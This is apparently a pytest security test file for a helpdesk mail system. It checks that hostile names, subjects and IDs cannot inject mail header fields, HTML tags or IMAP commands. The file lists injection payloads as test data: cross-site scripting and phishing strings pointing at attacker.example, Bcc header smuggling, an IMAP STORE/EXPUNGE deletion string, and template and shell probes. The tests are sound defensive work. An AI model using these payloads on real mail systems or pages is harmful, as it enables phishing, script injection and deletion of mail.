"""Hostile words through every kind of letter, and no word of a mail in a command to a server (A08–A12)."""

import ast
import json
import random
import re
from collections.abc import Iterator
from dataclasses import replace
from email.header import decode_header, make_header
from email.utils import getaddresses
from html.parser import HTMLParser
from itertools import repeat

import pytest

from maild.cli.terminal import shown
from maild.ingest.mailbox import Mailbox
from maild.ingest.prescan import content_hash, message_id_of
from maild.model import Address, Attachment, Field, Mail, Ticket, Words
from maild.outbound import samples
from maild.outbound.compose import Composer, Ids
from maild.outbound.headers import mailbox, message_ids
from maild.outbound.preview import bodies
from maild.outbound.sample_cases import cases, policy
from maild.tokens import Tokens
from tests.fake_imap import FakeImap
from tests.integration.test_mailbox import account
from tests.pages import PACKAGE
from tests.security.conftest import ANNA, DESK, TOM, Desk, raw_mail, received
from tests.security.test_words import FIELDS

TOKENS = Tokens([b"0123456789abcdef0123456789abcdef"], "corp.example")
NUMBER = 10_000
PIECES = (
    "\r\nBcc: evil@x.example", "\nBcc: evil@x.example\n\nbody", "=?utf-8?q?hi=0ABcc=3A_evil=40x.example?=",
    "=?utf-8?b?PT91dGYtOD9xP2hpPTBBQmNjPTNBX2V2aWw/PQ==?=", "<=?utf-8?q?hi=0ABcc=3A?=@x>", "\x00", "\u2028",
    "\x85Bcc: e", "\x0bX: y", "\x0cX: y", "\x1eX: y", "\u202egpj.exe", "\ufeff", '"', "\\", "<evil@x.example>",
    ", evil@x.example",
    "(", ")", ";", ":", "字", "é", "😀", "a" * 300, " ", "\t", "Re:", "[IT-1]", "\r", "\n ", "=?", "?=",
    "@", "--", "\ud800",
)  # fmt: skip

# What is put into names, subjects, texts, fields and names of files; none of it may become a tag of a letter.
PAYLOADS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//attacker.example/x></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://attacker.example/pixel.png width=1>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=https://attacker.example></iframe>",
    "<object data=x></object>",
    "<embed src=x>",
    "<form action=https://attacker.example><input name=password></form>",
    "<a href=https://attacker.example/login>log in again</a>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href='data:text/html,x'>x</a>",
    "\"><a href=https://attacker.example>x</a>",
    "' onmouseover='alert(1)",
    "\" style=\"position:fixed;inset:0\" x=\"",
    "</td></tr></table><h1>The desk has moved to attacker.example</h1>",
    "</style><style>body{display:none}</style>",
    "</title><title>x",
    "<base href=https://attacker.example/>",
    "<meta http-equiv=refresh content=0;url=https://attacker.example>",
    "<link rel=stylesheet href=https://attacker.example/x.css>",
    "<!--<img src=x>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if mso]><script>x</script><![endif]-->",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></math>",
    "<video src=x><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<div style=\"background:url(https://attacker.example/x.png)\">x</div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "＜script＞alert(1)＜/script＞",
    "<b>bold</b><br><u>x</u>",
)  # fmt: skip


class _Tags(HTMLParser):
    """The tags of a page with all their attributes, in order, and where its links lead."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str] = []
        self.attributes: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes.update(name for name, _ in attrs)
        self.links += [value or "" for name, value in attrs if name in ("href", "src", "background", "action")]


def _with(value: object, nasty: Iterator[str]) -> object:
    """An example value with every text in it replaced."""
    if isinstance(value, Words):
        return Words(next(nasty), next(nasty))
    return next(nasty) if isinstance(value, str) else value


def _letters(nasty: Iterator[str]) -> Iterator[tuple[Composer, Mail, Ticket | None]]:
    """Every letter with each of its faces in each language; people, subject, fields and texts out of `nasty`."""
    for language in ("zh-CN", "en"):
        composer = Composer(policy(language), TOKENS)
        for case in cases(language):
            ticket = case.ticket
            # A template chooses its words by codes; only what people write is anybody's to write.
            values = {
                name: _with(value, nasty) if name in ("text", "summary", "author", "note", "title", "detail") else value
                for name, value in case.mail.values.items()
            }
            if ticket is not None:
                ticket = replace(
                    ticket,
                    subject=next(nasty),
                    requester=Address(ticket.requester.address, next(nasty)),
                    summary=next(nasty),
                    fields={
                        name: Field(name, next(nasty), "text") for name in ("name", "phone", "error", "department")
                    },
                )
            mail = replace(
                case.mail, to=Address(case.mail.to.address, next(nasty)), values=values, answers=f"<{next(nasty)}@x>",
                references=(next(nasty), f"<{next(nasty)}>"), author=next(nasty) if case.mail.author else "",
            )  # fmt: skip
            yield composer, mail, ticket


def test_a08_ten_thousand_hostile_values_through_every_letter_add_no_field() -> None:
    dice = random.Random(20261123)
    used = 0

    def values() -> Iterator[str]:
        nonlocal used
        while True:
            used += 1
            yield "".join(dice.choice(PIECES) for _ in range(dice.randint(1, 6)))

    nasty, seen = values(), set()
    while used < NUMBER:
        for composer, mail, ticket in _letters(nasty):
            file = Attachment(0, next(nasty), dice.choice(("image/png", "text/html", next(nasty))), 1, "")
            raw = composer.compose(
                mail, ticket, Ids("<a@corp.example>", "<b@corp.example>"), samples.NOW, [(file, b"1")]
            ).raw
            head = raw.partition(b"\r\n\r\n")[0]
            names = [line.partition(b":")[0].decode().lower() for line in head.split(b"\r\n") if line[:1] not in b" \t"]
            assert set(names) <= FIELDS and len(names) == len(set(names)), (mail.template, names)
            assert {"from", "to", "subject", "message-id"} <= set(names), mail.template
            assert ("in-reply-to" in names) is bool(message_ids((mail.answers,))), mail.template
            assert raw.isascii() and b"\r" not in head.replace(b"\r\n", b"") and b"\n" not in head.replace(b"\r\n", b"")
            to = re.search(rb"(?m)^To: ((?:[^\r]|\r\n[ \t])*)", head)
            # What stands in quotes is a name; behind it there is the one reader.
            assert to is not None, mail.template
            reader = re.sub(rb'"(?:[^"\\]|\\.)*"', b"", to[1])
            assert reader.count(b"@") == 1 and mail.to.address.encode() in reader, (mail.template, to[1])
            seen.add(mail.template)
    assert used >= NUMBER and len(seen) > 30


# Letters in which an agent's own words stand, or an approver's.
BY_AGENTS = {
    "requester/reply", "requester/info_requested", "requester/resolved", "requester/confirm_reminder",
    "requester/approval",
}  # fmt: skip


def test_a12_thirty_payloads_become_no_tag_in_any_letter() -> None:
    assert len(PAYLOADS) >= 30
    plain = enumerate(_letters(repeat("harmless words")))
    tags = {(one[1].template, n): _Tags(bodies(_compose(*one))[1]) for n, one in plain}
    linked = set()
    for some in range(0, len(PAYLOADS), 11):
        payload = " ".join(PAYLOADS[some : some + 11])
        for n, one in enumerate(_letters(repeat(payload))):
            template, was = one[1].template, tags[one[1].template, n]
            page = _Tags(bodies(_compose(*one))[1])
            foreign = [
                each
                for each in page.links
                if not each.startswith(("mailto:", "tel:", "cid:")) and each not in was.links
            ]
            if foreign:
                # A web address among an agent's own words becomes a link to itself, and to nothing else.
                assert all(re.match(r"https://attacker\.example[^\s<>\"']*$", each) for each in foreign), (
                    template,
                    foreign,
                )
                linked.add(template)
            assert set(page.tags) - set(was.tags) <= ({"a"} if foreign else set()), (template, payload)
            assert page.attributes <= was.attributes | ({"href"} if foreign else set()), (template, payload)
    assert linked <= BY_AGENTS, linked - BY_AGENTS


def _compose(composer: Composer, mail: Mail, ticket: Ticket | None) -> bytes:
    return composer.compose(mail, ticket, Ids("<a@corp.example>", "<b@corp.example>"), samples.NOW).raw


CONTROL_FIELDS = (
    "X-Maild-Ticket", "X-Maild-Kind", "X-Maild-Priority", "X-Maild-Team", "X-Maild-Command", "X-Maild-Trust",
    "X-Maild-Verdict", "X-Maild-Requester", "X-Maild-State", "X-Maild-Assignee", "X-OTRS-Priority", "X-OTRS-State",
    "X-OTRS-Queue", "X-RT-Command", "X-RT-Ticket", "X-RT-Original-Encoding", "X-Zammad-Ticket-Priority",
    "X-Zammad-Customer-Email", "RT-Attach", "X-PGP-Status", "X-SMIME-Verified", "X-Forwarded-For",
)  # fmt: skip


@pytest.mark.parametrize("name", CONTROL_FIELDS)
def test_a10_twenty_control_fields_change_nothing(working: Desk, name: str) -> None:
    before = working.picture(1)
    for value in ("IT-1", "P1", "closed", "agent", ANNA, "#close", "yes"):
        out = working.write("eve@stranger.example", "Hello", "My VPN is slow, please help me.", [(name, value)])
        assert working.picture(1) == before and working.ledger().trust == "stranger"
        assert {each.template for each in out if each.recipient == "eve@stranger.example"} <= {"stranger/received"}
    made = working.rows("SELECT priority, state, assignee FROM ticket WHERE id > 1")
    assert {(row.priority, row.state) for row in made} <= {("P3", "new"), ("P4", "new")}


TEMPLATES = (
    "{{7*7}}",
    "{% for x in (1,2) %}y{% endfor %}",
    "{0.__class__}",
    "%(name)s %s %d",
    "${HOME} $(id)",
    "{#x#}",
)


@pytest.mark.parametrize("text", TEMPLATES)
def test_a11_the_signs_of_templates_come_out_as_they_went_in(
    working: Desk, text: str, caplog: pytest.LogCaptureFixture
) -> None:
    with caplog.at_level("DEBUG", "maild"):
        fields = [("From", f'"{text}" <{TOM}>'), ("To", DESK), ("Subject", f"Printer {text}"), ("Message-ID", "<t@x>")]
        out = working.deliver(raw_mail(fields, f"The printer says {text} all day.\r\nError: {text}\r\nPhone: 8123"))
    notice = next(each for each in out if each.template == "agent/new_ticket")
    seen = received(notice)
    assert text in seen.subject and text in seen.text
    assert text in seen.html.replace("&#34;", '"').replace("&#39;", "'")
    working.reply(notice, f"We look at {text}.")
    assert text in received(working.letter("requester/reply", TOM)).text
    row = working.rows("SELECT * FROM ticket WHERE id = 2")[0]
    assert text in row.subject
    for record in caplog.records:
        # A log line with a sign of a format in it must not be one.
        assert "49" not in record.getMessage().split() and "yy" not in record.getMessage()
    assert text in shown(row.subject) and json.loads(json.dumps(row.subject)) == row.subject


# ── A09: what a mailbox server hears ─────────────────────────────────────────────────────────────────────────────────


def test_a09_commands_to_a_mailbox_are_made_of_constants_and_numbers() -> None:
    heard = 0
    for path in PACKAGE.glob("ingest/mailbox*.py"):
        for node in ast.walk(ast.parse(path.read_text("utf-8"))):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                continue
            if node.func.attr not in ("search", "uid", "fetch", "_simple_command", "copy", "move", "store", "expunge"):
                continue
            if ast.unparse(node.func.value) not in ("client", "client._imap", "self._client", "imap"):
                continue
            heard += 1
            for argument in node.args:
                names = {each.id for each in ast.walk(argument) if isinstance(each, ast.Name)}
                strange = {each for each in names if re.search("message_id|subject|sender|raw|mail$|text|header", each)}
                assert not strange, f"{path.name}:{node.lineno}: {ast.unparse(node)} sends {strange} to the server"
    assert heard >= 3, "the places where commands are sent have other names now"


def test_a09_two_hundred_hostile_ids_pass_a_server_that_hears_only_what_it_knows() -> None:
    dice = random.Random(20261123)
    signs = (
        '"',
        "\r\nX1 STORE 1:* +FLAGS (\\Deleted)\r\nX2 EXPUNGE",
        "{4}",
        "\\",
        "(",
        ")",
        "*",
        "%",
        "]",
        "x",
        "<",
        ">",
        " ",
    )
    hostile = ["".join(dice.choice(signs) for _ in range(12)) for _ in range(200)]
    raws = [
        f"From: {TOM}\r\nMessage-ID: <{one}>\r\nReferences: {one}\r\nSubject: {one}\r\n\r\nx\r\n" for one in hostile
    ]
    now = [raws[0]]

    def answer(line: str) -> str:
        size = len(now[0])
        body = f" BODY[] {{{size}}}\r\n{now[0]}" if "BODY" in line else ""
        date = '"01-Mar-2026 08:00:00 +0800"'
        return f"* 1 FETCH (UID 11 RFC822.SIZE {size} INTERNALDATE {date}{body})\r\n{{tag}} OK done\r\n"

    with FakeImap(FETCH=answer) as fake:
        box = Mailbox(account(fake.port))
        box.connect()
        for raw in raws:
            now[0] = raw
            (fetched,) = box.fetch([11])
            assert fetched.raw.decode() == raw
            message_id_of(fetched.raw), content_hash(fetched.raw)
        box.close()
    allowed = re.compile(
        r"\w+ (?:CAPABILITY|LOGIN .*|ID .*|SELECT .*|EXAMINE .*|ENABLE .*|NOOP|LOGOUT|NAMESPACE|LIST .*|AUTHENTICATE .*"
        r"|UID FETCH [\d:,]+ \([A-Z0-9. \[\]]+\)|UID SEARCH [A-Z0-9:,* ]+)"
    )
    assert [line for line in fake.heard if not allowed.fullmatch(line.strip())] == []
    assert sum("BODY" in line for line in fake.heard) == 200


@pytest.mark.parametrize(
    "name", ["Bcc: evil@x.example 王", "evil@x.example, 王", "x <evil@x.example> é", "a; b:, 字 =?utf-8?q?x?="]
)
def test_a08_a_name_in_encoded_words_leaves_nothing_of_it_in_the_open(name: str) -> None:
    (read,) = getaddresses([mailbox(TOM, name)])
    assert read[1] == TOM
    assert str(make_header(decode_header(read[0]))) == name
